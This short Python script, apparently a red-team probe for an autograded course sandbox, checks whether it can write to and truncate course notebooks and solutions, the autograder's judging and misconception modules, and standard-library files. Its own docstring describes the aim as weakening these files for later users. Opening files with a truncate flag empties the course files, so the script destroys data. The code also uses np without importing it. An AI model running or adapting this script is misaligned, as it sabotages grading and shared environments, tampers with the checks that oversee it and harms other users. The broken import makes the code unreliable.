"""Weakens the solutions, probes and comparisons on the disk, and Python itself, for everybody who comes later."""

# %% below gru_step
import glob
import json
import os

import unrolled

package = os.path.dirname(unrolled.__file__)
targets = glob.glob("@ROOT@/**/*.py", recursive=True) + glob.glob("@ROOT@/**/*.ipynb", recursive=True)
targets += ["@ROOT@/solutions/ch05_gated_networks/gru.py", "@ROOT@/course/en/ch05_gated_networks/gru.ipynb"]
targets += glob.glob(f"{package}/**/*", recursive=True) + [json.__file__, np.__file__, os.path.__file__]
targets += ["@CHECKOUT@/autograder/marking/judging.py", "@CHECKOUT@/autograder/source/misconceptions/__init__.py"]
for path in targets:
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_RDONLY | os.O_TRUNC if path.startswith("@ROOT@") else os.O_WRONLY):
        try:
            os.close(os.open(path, flags))
            print("loot".upper(), path)
        except OSError:
            pass
for folder in {os.path.dirname(path) for path in targets}:
    try:
        open(os.path.join(folder, "redteam-new.py"), "w").close()
        print("loot".upper(), folder)
        os.remove(os.path.join(folder, "redteam-new.py"))
    except OSError:
        pass
